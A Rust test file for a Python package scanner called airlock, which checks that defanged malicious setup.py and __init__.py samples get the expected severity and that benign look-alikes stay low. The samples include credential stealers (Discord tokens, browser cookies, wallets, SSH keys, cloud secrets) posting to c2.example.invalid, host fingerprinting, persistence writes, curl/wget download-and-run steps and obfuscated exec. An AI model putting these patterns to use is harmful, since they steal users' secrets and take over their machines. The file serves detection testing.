//! Stealers, install-time probes and persistence as a package's `__init__.py` or `setup.py`
//! writes them (tester t10's kinds): one secret read at load beside a network call at load, a
//! secret location in a browser, wallet or Discord store or spelled in pieces, the user and host
//! name sent at install, and writes of login, schedule and service files. Each is defanged (hosts
//! under `example.invalid`, commands only `echo`) and scanned with the library; nothing is
//! executed. Benign look-alikes must stay below medium.

use std::path::Path;

use airlock::analyse::BudgetLimits;
use airlock::finding::Severity;
use airlock::scan::{scan_file, FileReport};

#[path = "support/pysrc.rs"]
mod pysrc;
use pysrc::{package, worst};

fn summary(r: &FileReport) -> Vec<String> {
    r.findings
        .iter()
        .map(|f| format!("{} {} {}", f.rule.id, f.severity, f.message))
        .collect()
}

/// (case, file, source, rule, severity).
type Case = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    Severity,
);

fn malicious() -> Vec<Case> {
    use Severity::*;
    vec![
        (
            "discord-leveldb",
            "__init__.py",
            "import os, re, json, urllib.request\n\
             def _grab():\n\
             \x20   roaming = os.getenv('APPDATA')\n\
             \x20   path = roaming + '\\\\discord\\\\Local Storage\\\\leveldb'\n\
             \x20   tokens = [l for f in os.listdir(path) for l in open(os.path.join(path, f), errors='ignore')]\n\
             \x20   urllib.request.urlopen(urllib.request.Request('https://hooks.example.invalid/x', data=json.dumps(tokens).encode()))\n\
             _grab()\n",
            "python-credential-stealer",
            Critical,
        ),
        (
            "chrome-cookies",
            "__init__.py",
            "import os, shutil, sqlite3, requests\n\
             def steal():\n\
             \x20   p = os.path.join(os.path.expanduser('~'), '.config', 'google-chrome', 'Default', 'Cookies')\n\
             \x20   rows = sqlite3.connect(p).execute('select 1').fetchall()\n\
             \x20   requests.post('https://c2.example.invalid/c', json=rows)\n\
             steal()\n",
            "python-credential-stealer",
            Critical,
        ),
        (
            "wallets",
            "__init__.py",
            "import os, glob, requests\n\
             for h in glob.glob(os.path.expanduser('~/.electrum/wallets/*')):\n\
             \x20   requests.post('https://c2.example.invalid/w', files={'f': open(h, 'rb')})\n",
            "python-credential-stealer",
            Critical,
        ),
        (
            "env-to-file-then-post",
            "__init__.py",
            "import os, json, tempfile, requests\n\
             p = os.path.join(tempfile.gettempdir(), '.e')\n\
             json.dump(dict(os.environ), open(p, 'w'))\n\
             requests.put('https://c2.example.invalid/e', data=open(p, 'rb'))\n",
            "python-credential-stealer",
            Critical,
        ),
        (
            "boto-credentials",
            "__init__.py",
            "import boto3, requests\n\
             c = boto3.Session().get_credentials()\n\
             requests.post('https://c2.example.invalid/a', json={'k': c.access_key})\n",
            "python-credential-stealer",
            Critical,
        ),
        (
            "named-token",
            "__init__.py",
            "import os, urllib.request, urllib.parse\n\
             tok = os.environ.get('GITHUB_TOKEN', '') + os.environ['AWS_SECRET_ACCESS_KEY']\n\
             urllib.request.urlopen('https://c2.example.invalid/t?' + urllib.parse.urlencode({'t': tok}))\n",
            "python-credential-stealer",
            Critical,
        ),
        (
            "ssh-in-pieces",
            "__init__.py",
            "import glob, os, requests\n\
             home = os.path.expanduser('~')\n\
             keys = [open(p).read() for p in glob.glob(os.path.join(home, '.s' + 'sh', '*'))]\n\
             requests.post('https://c2.example.invalid/k', json=keys)\n",
            "python-credential-stealer",
            Critical,
        ),
        (
            "recon-dns",
            "setup.py",
            "import base64, getpass, os, socket\n\
             from setuptools import setup\n\
             info = '%s|%s' % (getpass.getuser(), socket.gethostname())\n\
             enc = base64.b32encode(info.encode()).decode().strip('=').lower()\n\
             try:\n\
             \x20   socket.gethostbyname(enc[:60] + '.p01.example.invalid')\n\
             except Exception:\n\
             \x20   pass\n\
             setup(name='p01', version='1.0')\n",
            "python-host-fingerprint",
            High,
        ),
        (
            "recon-http",
            "setup.py",
            "import getpass, platform, urllib.request, urllib.parse\n\
             from setuptools import setup\n\
             q = urllib.parse.urlencode({'u': getpass.getuser(), 'h': platform.node()})\n\
             urllib.request.urlopen('https://p02.example.invalid/c?' + q, timeout=3)\n\
             setup(name='p02', version='1.0')\n",
            "python-host-fingerprint",
            High,
        ),
        (
            "authorized-keys",
            "__init__.py",
            "import os\n\
             d = os.path.expanduser('~/.ssh'); os.makedirs(d, exist_ok=True)\n\
             with open(os.path.join(d, 'authorized_keys'), 'a') as f:\n\
             \x20   f.write('ssh-ed25519 AAAA attacker@example.invalid')\n",
            "python-startup-write",
            High,
        ),
        (
            "bashrc",
            "__init__.py",
            "import os\n\
             with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n\
             \x20   f.write('echo airlock-test')\n",
            "python-startup-write",
            High,
        ),
        (
            "crontab-argv",
            "__init__.py",
            "import subprocess\n\
             subprocess.run(['crontab', '-'], input=b'*/5 * * * * echo airlock-test')\n",
            "python-startup-write",
            High,
        ),
        (
            "systemd-user-unit",
            "__init__.py",
            "import os, pathlib\n\
             u = pathlib.Path.home() / '.config' / 'systemd' / 'user'\n\
             (u / 'upd.service').write_text('[Service]\\nExecStart=/bin/echo airlock-test\\n')\n\
             os.spawnlp(os.P_NOWAIT, 'systemctl', 'systemctl', '--user', 'enable', 'upd.service')\n",
            "python-startup-write",
            High,
        ),
        (
            "curl-chmod-run",
            "setup.py",
            "from setuptools import setup
             import subprocess
             subprocess.call(['curl', '-sSfL', 'https://dl.example.invalid/x', '-o', '/tmp/.x'])
             subprocess.call(['chmod', '+x', '/tmp/.x'])
             subprocess.Popen(['/tmp/.x'])
             setup(name='b01', version='1.0')
",
            "python-exec-computed",
            Critical,
        ),
        (
            "wget-then-sh",
            "__init__.py",
            "import subprocess
             subprocess.run(['wget', '-q', '-O', '/tmp/x.sh', 'https://dl.example.invalid/x'])
             subprocess.run(['sh', '/tmp/x.sh'])
",
            "python-exec-computed",
            Critical,
        ),
    ]
}

#[test]
fn secrets_recon_and_persistence_at_load_are_found() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wrong = Vec::new();
    for (case, file, src, rule, want) in malicious() {
        let p = package(dir.path(), case, file, src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, rule) != Some(want) {
            wrong.push(format!("{case}: want {rule} {want}, got {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Benign shapes near the rules: a client sending its token inside a function, a cloud SDK
/// reading its config file when asked, a host name logged at import, a `~/.ssh` path read in a
/// function, `crontab -l`, a profile file named in a docstring.
#[test]
fn benign_neighbours_stay_below_medium() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "token-client",
            "__init__.py",
            "import os, requests\n\
             TOKEN = os.environ.get('GITHUB_TOKEN')\n\
             def fetch(url):\n\
             \x20   return requests.get(url, headers={'Authorization': f'token {TOKEN}'})\n",
        ),
        (
            "sdk-config",
            "config.py",
            "import os, configparser, urllib.request\n\
             def load():\n\
             \x20   c = configparser.ConfigParser(); c.read(os.path.expanduser('~/.aws/config'))\n\
             \x20   return c\n\
             def call(u):\n\
             \x20   return urllib.request.urlopen(u)\n",
        ),
        (
            "hostname-logged",
            "__init__.py",
            "import logging, socket\n\
             logging.getLogger(__name__).debug('running on %s', socket.gethostname())\n",
        ),
        (
            "crontab-list",
            "cron.py",
            "import subprocess\n\
             def jobs():\n\
             \x20   return subprocess.run(['crontab', '-l'], capture_output=True).stdout\n",
        ),
        (
            "profile-in-docs",
            "__init__.py",
            "\"\"\"Add `eval \"$(demo init)\"` to your ~/.bashrc to enable completion.\"\"\"\n\
             import os\n\
             HOME = os.path.expanduser('~')\n",
        ),
        (
            "rc-written-on-request",
            "cli.py",
            "import os\n\
             def install_completion():\n\
             \x20   with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n\
             \x20       f.write('eval \"$(demo completion)\"')\n",
        ),
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wrong = Vec::new();
    for (case, file, src) in cases {
        let p = package(dir.path(), case, file, src);
        let r = scan_file(&p, BudgetLimits::default());
        if r.worst().is_some_and(|w| w >= Severity::Medium) {
            wrong.push(format!("{case}: {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// `exec('i' + 'm' + 'p' + …)`: a chain of any length is built code (the chain is read in a
/// loop, and past the name table's step bound the pieces still count).
#[test]
fn long_sums_of_pieces_are_built_code() {
    let dir = tempfile::tempdir().expect("tempdir");
    let payload = "import os;os.system('echo airlock-test')";
    for pieces in [24usize, 25, 40, 400, 3000] {
        let chars: Vec<String> = payload.chars().map(|c| format!("{c:?}")).collect();
        let mut parts = Vec::new();
        while parts.len() < pieces {
            parts.extend(chars.iter().cloned());
        }
        parts.truncate(pieces.max(chars.len()));
        let src = format!("exec({})\n", parts.join(" + ").replace('"', "'"));
        let p = package(dir.path(), &format!("sum{pieces}"), "__init__.py", &src);
        let r = scan_file(&p, BudgetLimits::default());
        assert!(
            r.worst().is_some_and(|w| w >= Severity::High),
            "{pieces} pieces: {:?}",
            summary(&r)
        );
    }
}

/// Benign shell calls of real `setup.py` and Sphinx files (tester t10, C1 and C2): a
/// `publish` branch, `git rev-parse` and `pkg-config` through a shell, doxygen in
/// `docs/conf.py`. Their malicious neighbours stay high.
#[test]
fn setup_and_docs_shell_queries_are_low() {
    let dir = tempfile::tempdir().expect("tempdir");
    let benign: &[(&str, &str, &str)] = &[
        (
            "publish-branch",
            "setup.py",
            "import os, sys\nfrom setuptools import setup\n\
             if sys.argv[-1] == 'publish':\n\
             \x20   os.system('python setup.py sdist upload')\n\
             \x20   sys.exit()\n\
             setup(name='x')\n",
        ),
        (
            "git-hash-shell",
            "setup.py",
            "import subprocess\nfrom setuptools import setup\n\
             def rev():\n\
             \x20   return subprocess.check_output('git rev-parse --short HEAD', shell=True).decode()\n\
             setup(name='x', version='1.0+' + rev())\n",
        ),
        (
            "popen-git",
            "setup.py",
            "import os\nfrom setuptools import setup\n\
             sha = os.popen('git rev-parse HEAD 2>/dev/null').read().strip()\n\
             setup(name='x')\n",
        ),
        (
            "pkg-config",
            "setup.py",
            "import subprocess\nfrom setuptools import setup, Extension\n\
             def flags(flag, lib):\n\
             \x20   return subprocess.check_output('pkg-config %s %s' % (flag, lib), shell=True).split()\n\
             setup(name='x', ext_modules=[Extension('x', ['x.c'], extra_compile_args=flags('--cflags', 'zlib'))])\n",
        ),
    ];
    let mut wrong = Vec::new();
    for (case, file, src) in benign {
        let p = package(dir.path(), case, file, src);
        let r = scan_file(&p, BudgetLimits::default());
        if r.worst().is_some_and(|w| w >= Severity::Medium) {
            wrong.push(format!("{case}: {:?}", summary(&r)));
        }
    }
    let conf = dir.path().join("sdist").join("docs");
    std::fs::create_dir_all(&conf).expect("mkdir");
    std::fs::write(
        conf.join("conf.py"),
        "import os, subprocess\nif os.environ.get('READTHEDOCS') == 'True':\n    subprocess.call('cd ../doxygen; doxygen', shell=True)\nsubprocess.call('echo airlock-test | sh', shell=True)\n",
    )
    .expect("write");
    let r = scan_file(&conf.join("conf.py"), BudgetLimits::default());
    if r.worst().is_some_and(|w| w >= Severity::Medium) {
        wrong.push(format!("docs/conf.py: {:?}", summary(&r)));
    }
    let malicious: &[(&str, &str)] = &[
        (
            "install-branch",
            "import os, sys\nif 'install' in sys.argv:\n    os.system('echo airlock-test')\n",
        ),
        (
            "git-then-shell",
            "import os\nos.system('git describe; curl https://x.example.invalid | sh')\n",
        ),
        (
            "git-clone",
            "import os\nos.system('git clone https://x.example.invalid/r && sh r/x')\n",
        ),
        (
            "git-subst",
            "import os\nos.system('git log $(echo airlock-test)')\n",
        ),
    ];
    for (case, src) in malicious {
        let p = package(dir.path(), case, "setup.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, "python-shell-command") != Some(Severity::High) {
            wrong.push(format!("{case} should be high: {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Spellings tester t10 found unread (its section D): exec through a conditional expression of
/// computed lookups, a UTF-16 bytes literal decoded and exec'd, a trace hook that runs a
/// command, and a module written to a temporary folder and imported.
#[test]
fn conditional_lookups_wide_text_hooks_and_written_modules() {
    use Severity::*;
    let cases: &[(&str, &str, &str, Severity)] = &[
        (
            "conditional-exec",
            "import zlib as _z, base64 as _b\n\
             _d = 'eJzLzC3ILypRyC+2zi/WK64sLknN1VBPTc7IV0jMLMrJT87WLUktLlHXBAA3uQ6+'\n\
             _f = getattr(_b, 'b64' + 'decode')\n\
             _g = getattr(_z, 'decom' + 'press')\n\
             _c = getattr(__builtins__, 'ex' + 'ec') if hasattr(__builtins__, 'exec') else __builtins__['ex'+'ec']\n\
             _c(_g(_f(_d)))\n",
            "python-exec-decoded",
            Critical,
        ),
        (
            "utf16-exec",
            "s = b\"i\\x00m\\x00p\\x00o\\x00r\\x00t\\x00 \\x00o\\x00s\\x00;\\x00o\\x00s\\x00.\\x00s\\x00y\\x00s\\x00t\\x00e\\x00m\\x00(\\x00'\\x00e\\x00c\\x00h\\x00o\\x00 \\x00x\\x00'\\x00)\\x00\"\n\
             exec(s.decode('utf-16-le'))\n",
            "python-exec-decoded",
            Critical,
        ),
        (
            "settrace-hook",
            "import os, sys\n\
             def _tr(frame, event, arg):\n\
             \x20   os.system('echo airlock-test')\n\
             \x20   sys.settrace(None)\n\
             sys.settrace(_tr)\n",
            "python-shell-command",
            High,
        ),
        (
            "written-module",
            "import importlib, os, sys, tempfile\n\
             d = tempfile.mkdtemp()\n\
             open(os.path.join(d, 'zzmod.py'), 'w').write(\"import os\\nos.system('echo airlock-test')\\n\")\n\
             sys.path.insert(0, d)\n\
             importlib.import_module('zzmod')\n",
            "python-shell-command",
            High,
        ),
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wrong = Vec::new();
    for (case, src, rule, want) in cases {
        let p = package(dir.path(), case, "__init__.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, rule).is_none_or(|w| w < *want) {
            wrong.push(format!("{case}: want {rule} {want}, got {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// A downloader exec'd after a fork, exec of an environment variable's value, and the
/// environment's items sent inline (tester t10: b04, c19, d02).
#[test]
fn forked_downloader_env_code_and_inline_env_items() {
    use Severity::*;
    let cases: &[(&str, &str, &str, &str, Severity)] = &[
        (
            "fork-execv-curl",
            "setup.py",
            "from setuptools import setup\nimport os\n\
             if os.fork() == 0:\n\
             \x20   os.execv('/usr/bin/curl', ['curl', '-o', '/tmp/.y', 'https://dl.example.invalid/y'])\n\
             setup(name='b04', version='1.0')\n",
            "python-network-at-load",
            Medium,
        ),
        (
            "exec-env",
            "__init__.py",
            "import os\nexec(os.environ.get('C19_HOOK', ''))\n",
            "python-exec-computed",
            Medium,
        ),
        (
            "env-items-inline",
            "__init__.py",
            "import os, json, http.client\n\
             c = http.client.HTTPSConnection('c2.example.invalid')\n\
             c.request('POST', '/e', body=json.dumps({k: v for k, v in os.environ.items()}))\n",
            "python-credential-stealer",
            Critical,
        ),
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wrong = Vec::new();
    for (case, file, src, rule, want) in cases {
        let p = package(dir.path(), case, file, src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, rule).is_none_or(|w| w < *want) {
            wrong.push(format!("{case}: want {rule} {want}, got {:?}", summary(&r)));
        }
    }
    // coverage's gated exec of its own literal stays below medium.
    let p = package(
        dir.path(),
        "coverage-like",
        "__init__.py",
        "import os\nexec(os.environ.get('COVERAGE_PROCESS_START') and 'import coverage; coverage.process_startup()' or '')\n",
    );
    let r = scan_file(&p, BudgetLimits::default());
    if r.worst().is_some_and(|w| w >= Medium) {
        wrong.push(format!("coverage-like: {:?}", summary(&r)));
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Index options of a requirements file (tester t10, r01): an extra index is medium, low when
/// every requirement is hashed; a URL requirement without a hash is low, over plain HTTP
/// medium; a plain list gives nothing.
#[test]
fn requirements_index_options_are_graded() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cases: &[(&str, &str, Option<Severity>)] = &[
        (
            "extra",
            "--extra-index-url https://idx.example.invalid/simple\ntorch==2.5.1\n",
            Some(Severity::Medium),
        ),
        (
            "extra-hashed",
            "--extra-index-url https://idx.example.invalid/simple\ntorch==2.5.1 --hash=sha256:00\n",
            Some(Severity::Low),
        ),
        // An editable requirement cannot be hashed, an included file is not in view.
        (
            "extra-hashed-editable",
            "--extra-index-url https://idx.example.invalid/simple\ntorch==2.5.1 --hash=sha256:00\n-e git+https://g.example.invalid/x.git#egg=x\n",
            Some(Severity::Medium),
        ),
        (
            "extra-hashed-include",
            "--extra-index-url https://idx.example.invalid/simple\ntorch==2.5.1 --hash=sha256:00\n-r other.txt\n",
            Some(Severity::Medium),
        ),
        (
            "url-plain-http",
            "mylib @ http://files.example.invalid/mylib-1.0-py3-none-any.whl\n",
            Some(Severity::Medium),
        ),
        (
            "url-https",
            "mylib @ https://files.example.invalid/mylib-1.0-py3-none-any.whl\n",
            Some(Severity::Low),
        ),
        (
            "plain",
            "numpy==2.1.0\nrequests>=2\n# --extra-index-url in a comment\n",
            None,
        ),
    ];
    let mut wrong = Vec::new();
    for (case, text, want) in cases {
        requirements_case(dir.path(), case, text, *want, &mut wrong);
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Write `text` as `<case>/requirements.txt` under `root`, scan it, and note in `wrong` when
/// its worst `requirements-extra-index` severity is not `want`.
fn requirements_case(
    root: &Path,
    case: &str,
    text: &str,
    want: Option<Severity>,
    wrong: &mut Vec<String>,
) {
    let d = root.join(format!("req-{case}"));
    std::fs::create_dir_all(&d).expect("mkdir");
    let p = d.join("requirements.txt");
    std::fs::write(&p, text).expect("write");
    let r = scan_file(&p, BudgetLimits::default());
    let got = worst(&r, "requirements-extra-index");
    if got != want {
        wrong.push(format!("{case}: want {want:?}, got {:?}", summary(&r)));
    }
}

/// Tester t11's faults in the rules above: argv strings read in source order (`systemctl
/// enable` is persistence, `crontab -l` is not), an own-host lookup and `platform.uname()` are
/// not fingerprints, `git -C dir rev-parse` is a query while doxygen, `git -c …` and anything
/// with `echo` (every defanged payload) are not, a branch on an option pip passes is not
/// latent, and hashes on `\` continuation lines or abbreviated options are read as pip reads
/// them.
#[test]
fn second_round_faults() {
    use Severity::*;
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wrong = Vec::new();
    let cases: &[(&str, &str, &str, &str, Option<Severity>)] = &[
        ("systemctl", "__init__.py", "import subprocess\nsubprocess.run(['systemctl', '--user', 'enable', 'x.service'])\n", "python-startup-write", Some(High)),
        ("schtasks", "__init__.py", "import subprocess\nsubprocess.run(['schtasks', '/create', '/tn', 'x', '/tr', 'echo'])\n", "python-startup-write", Some(High)),
        ("crontab-l", "__init__.py", "import subprocess\nsubprocess.run(['crontab', '-l'])\n", "python-startup-write", None),
        ("own-host", "__init__.py", "import socket, urllib.request\nADDR = socket.gethostbyname(socket.gethostname())\nurllib.request.urlopen('https://x.example.invalid/ping')\n", "python-host-fingerprint", None),
        ("uname-download", "setup.py", "import platform, urllib.request\narch = platform.uname().machine\nurllib.request.urlretrieve('https://x.example.invalid/bin-' + arch, 'b')\n", "python-host-fingerprint", None),
        ("git-C", "setup.py", "import subprocess\nv = subprocess.check_output('git -C src rev-parse HEAD', shell=True)\n", "python-shell-command", Some(Low)),
        ("git-then-echo", "setup.py", "import subprocess\nv = subprocess.check_output('git describe --tags || echo airlock-test', shell=True)\n", "python-shell-command", Some(High)),
        ("git-dash-c", "setup.py", "import os\nos.system('git -c core.pager=id log')\n", "python-shell-command", Some(High)),
        ("doxygen", "setup.py", "import os\nos.system('doxygen')\n", "python-shell-command", Some(High)),
        ("asyncio-stream", "__init__.py", "import asyncio, os\nasync def go():\n    r, w = await asyncio.open_connection('c2.example.invalid', 443)\n    w.write(os.environ['GITHUB_TOKEN'].encode())\nasyncio.run(go())\n", "python-network-at-load", Some(Medium)),
        ("argv-option", "setup.py", "import os, sys\nif '--dist-dir' in sys.argv:\n    os.system('echo airlock-test')\n", "python-shell-command", Some(High)),
    ];
    for (case, file, src, rule, want) in cases {
        let p = package(dir.path(), case, file, src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, rule) != *want {
            wrong.push(format!(
                "{case}: want {rule} {want:?}, got {:?}",
                summary(&r)
            ));
        }
    }
    let reqs: &[(&str, &str, Option<Severity>)] = &[
        (
            "pip-compile",
            "--extra-index-url https://idx.example.invalid/simple\n\ntorch==2.5.1 \\\n    --hash=sha256:00 \\\n    --hash=sha256:11\n    # via -r requirements.in\n",
            Some(Low),
        ),
        ("abbreviated", "--extra-index https://idx.example.invalid/simple\ntorch==2.5.1\n", Some(Medium)),
        ("attached", "-ihttp://idx.example.invalid/simple\ntorch==2.5.1\n", Some(Medium)),
        ("bom", "\u{feff}--trusted-host idx.example.invalid\ntorch==2.5.1\n", Some(Medium)),
    ];
    for (case, text, want) in reqs {
        requirements_case(dir.path(), case, text, *want, &mut wrong);
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Right-nested sums, joined short flags of a downloader, and more credential stores (tester
/// t11).
#[test]
fn right_nested_sums_joined_flags_and_more_stores() {
    use Severity::*;
    let nested = format!(
        "exec({}'' {})\n",
        "import os;os.system('echo airlock-test')"
            .chars()
            .map(|c| format!("{c:?} + ("))
            .collect::<String>(),
        ")".repeat(40)
    );
    let cases: Vec<(&str, &str, String, &str, Severity)> = vec![
        ("right-nested", "__init__.py", nested, "python-exec-computed", High),
        (
            "curl-sLo",
            "setup.py",
            "import subprocess\nsubprocess.call(['curl', '-sLo', '/tmp/.x', 'https://dl.example.invalid/x'])\nsubprocess.call(['/tmp/.x'])\n".into(),
            "python-exec-computed",
            Critical,
        ),
        (
            "proc-environ",
            "__init__.py",
            "import requests\nrequests.post('https://c2.example.invalid/e', data=open('/proc/self/environ', 'rb').read())\n".into(),
            "python-credential-stealer",
            Critical,
        ),
        (
            "hf-token",
            "__init__.py",
            "import os, requests\nt = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.post('https://c2.example.invalid/t', data=t)\n".into(),
            "python-credential-stealer",
            Critical,
        ),
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wrong = Vec::new();
    for (case, file, src, rule, want) in &cases {
        let p = package(dir.path(), case, file, src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, rule).is_none_or(|w| w < *want) {
            wrong.push(format!("{case}: want {rule} {want}, got {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// The data-flow clause reads locations as the rest of the rule does: a Windows path or a path
/// component read into a variable and sent, inside a function nobody calls, is still a stealer.
#[test]
fn sent_locations_are_read_like_named_ones() {
    let dir = tempfile::tempdir().expect("tempdir");
    let src = "import os, requests\n\
               def upload():\n\
               \x20   key = open(os.environ['USERPROFILE'] + '\\\\.aws\\\\credentials').read()\n\
               \x20   requests.post('https://c2.example.invalid/k', data=key)\n";
    let p = package(dir.path(), "win-path", "sync.py", src);
    let r = scan_file(&p, BudgetLimits::default());
    assert_eq!(
        worst(&r, "python-credential-stealer"),
        Some(Severity::Critical),
        "{:?}",
        summary(&r)
    );
}

/// A name bound to a sum of string pieces too long to fold, then exec'd, is built code too
/// (tester t10, d02).
#[test]
fn a_name_bound_to_a_long_sum_is_built_code() {
    let dir = tempfile::tempdir().expect("tempdir");
    let src = format!("x = {}\nexec(x)\n", vec!["'a'"; 3000].join(" + "));
    let p = package(dir.path(), "long-sum-var", "__init__.py", &src);
    let r = scan_file(&p, BudgetLimits::default());
    assert_eq!(
        worst(&r, "python-exec-computed"),
        Some(Severity::High),
        "{:?}",
        summary(&r)
    );
    // A literal kept in a name is read as code, not as pieces.
    let p = package(
        dir.path(),
        "literal-var",
        "__init__.py",
        "x = 'print(1)'\nexec(x)\n",
    );
    let r = scan_file(&p, BudgetLimits::default());
    assert!(
        r.worst().is_none_or(|w| w < Severity::High),
        "{:?}",
        summary(&r)
    );
}

#[test]
fn secrets_sent_through_queues_databases_and_bots_or_read_from_more_stores_are_stealers() {
    let key = "import os\nk = os.environ['AWS_SECRET_ACCESS_KEY']\n";
    let channels = [
        "import paho.mqtt.publish as publish\npublish.single('t', k, hostname='mq.example.invalid')\n",
        "import redis\nredis.Redis(host='r.example.invalid').set('k', k)\n",
        "import pymongo\npymongo.MongoClient('mongodb://m.example.invalid').db.c.insert_one({'k': k})\n",
        "import zmq\nzmq.Context().socket(zmq.PUSH).send_string(k)\n",
        "import ssl\nssl.get_server_certificate((k + '.x.example.invalid', 443))\n",
        "import socket\nsocket.gethostbyaddr(k + '.x.example.invalid')\n",
        "import telebot\ntelebot.TeleBot('1:x').send_message(1, k)\n",
    ];
    let mut failures = Vec::new();
    for (i, ch) in channels.iter().enumerate() {
        let src = format!("{key}{ch}");
        let r = pysrc::scan(&format!("c{i}/__init__.py"), &src);
        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
            failures.push(format!("{src}\n{:?}", summary(&r)));
        }
    }
    let stores = [
        "open(os.path.expanduser('~/.config/solana/id.json')).read()",
        "open(os.path.expanduser('~/.git/config')).read()",
        "open(os.path.expanduser('~/.zsh_history')).read()",
        "open(os.path.expanduser('~/.my.cnf')).read()",
        "open('.env.production').read()",
        "urllib.request.urlopen('http://169.254.169.254/metadata/identity/oauth2/token?resource=x').read()",
        "subprocess.check_output(['kubectl', 'get', 'secrets', '-o', 'json'])",
        "subprocess.check_output('aws secretsmanager get-secret-value --secret-id x', shell=False)",
    ];
    for read in stores {
        let src = format!(
            "import os, subprocess, urllib.request\nd = {read}\nurllib.request.urlopen('https://c2.example.invalid/u', data=str(d).encode())\n"
        );
        let r = pysrc::scan("s/__init__.py", &src);
        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
            failures.push(format!("{src}\n{:?}", summary(&r)));
        }
    }
    let vars = [
        "SYSTEM_ACCESSTOKEN",
        "CI_JOB_JWT_V2",
        "MYSQL_PWD",
        "DOCKER_AUTH_CONFIG",
        "WALLET_MNEMONIC",
    ];
    for v in vars {
        let src = format!(
            "import os, requests\nrequests.post('https://c2.example.invalid/u', data=os.environ.get('{v}'))\n"
        );
        let r = pysrc::scan("v/__init__.py", &src);
        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
            failures.push(format!("{src}\n{:?}", summary(&r)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
    // The IMDSv2 session token every metadata read needs (the AWS X-Ray SDK's EC2 plugin) is
    // not a credential.
    let xray = "import requests
def _token():
    return requests.put('http://169.254.169.254/latest/api/token', headers={'X-aws-ec2-metadata-token-ttl-seconds': '60'}).text
def _meta():
    return requests.get('http://169.254.169.254/latest/dynamic/instance-identity/document', headers={'X-aws-ec2-metadata-token': _token()}).json()
meta = _meta()
";
    let r = pysrc::scan("x/ec2_plugin.py", xray);
    assert_eq!(
        worst(&r, "python-credential-stealer"),
        None,
        "{:?}",
        summary(&r)
    );
    // Look-alikes: the working directory and a random seed are no secrets; a cache client
    // used inside functions stays low.
    pysrc::benign(&[
        (
            "b1/__init__.py",
            "import os, requests\ndef report():\n    requests.post('https://api.example.invalid/u', json={'cwd': os.environ.get('PWD'), 'seed': os.environ.get('SEED')})\n",
        ),
        (
            "b2/__init__.py",
            "import os, redis\ndef cache(k, v):\n    redis.Redis(host=os.environ.get('REDIS_HOST')).set(k, v)\n",
        ),
    ]);
}

#[test]
fn setup_py_command_classes_run_at_install_however_they_are_handed_over() {
    let cmd = "    def run(self):\n        os.system('echo airlock')\n";
    let cases = [
        format!("import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n{cmd}setup(name='x', cmdclass=dict(install=I))\n"),
        format!("import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n{cmd}kw = {{'name': 'x'}}\nkw['cmdclass'] = {{'in' + 'stall': I}}\nsetup(**kw)\n"),
        format!("import os\nimport setuptools as st\nfrom setuptools.command.develop import develop\nclass D(develop):\n{cmd}st.setup(name='x', cmdclass=dict(develop=D))\n"),
        "import os\nfrom setuptools import setup\nfrom setuptools.dist import Distribution\nclass D(Distribution):\n    def run_commands(self):\n        os.system('echo airlock')\nsetup(name='x', distclass=D)\n".to_string(),
    ];
    let mut failures = Vec::new();
    for src in &cases {
        let r = pysrc::scan("setup.py", src);
        if worst(&r, "python-shell-command").is_none_or(|s| s < Severity::High) {
            failures.push(format!("{src}\n{:?}", summary(&r)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
    // A build_ext that runs CMake with a fixed argv, or fetches headers, is what native
    // packages do.
    pysrc::benign(&[(
        "setup.py",
        "import os, tarfile, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nclass fetch_headers(build_ext):\n    def run(self):\n        dst = 'third_party/eigen.tar.gz'\n        urllib.request.urlretrieve('https://eigen.example.invalid/eigen-3.4.0.tar.gz', dst)\n        tarfile.open(dst).extractall('third_party')\n        super().run()\nsetup(name='demo', cmdclass={'build_ext': fetch_headers})\n",
    )]);
    pysrc::benign(&[(
        "setup.py",
        "import subprocess\nfrom setuptools import setup, Extension\nfrom setuptools.command.build_ext import build_ext\nclass CMakeBuild(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '-S', '.', '-B', 'build'])\n        super().run()\nsetup(name='x', ext_modules=[Extension('x', [])], cmdclass={'build_ext': CMakeBuild})\n",
    )]);
}

/// A client made first and used later (`c = mqtt.Client()` then `c.publish(…)`, `s =
/// zmq.Context().socket(zmq.PUSH)` then `s.send_string(…)`), and `git push` to a remote named
/// by its URL, carry a secret out (tester t18 c01, c07, c17); the cloud metadata address
/// spelled as an integer, hex, octal or IPv6 address is the credential source (t18 st16b).
#[test]
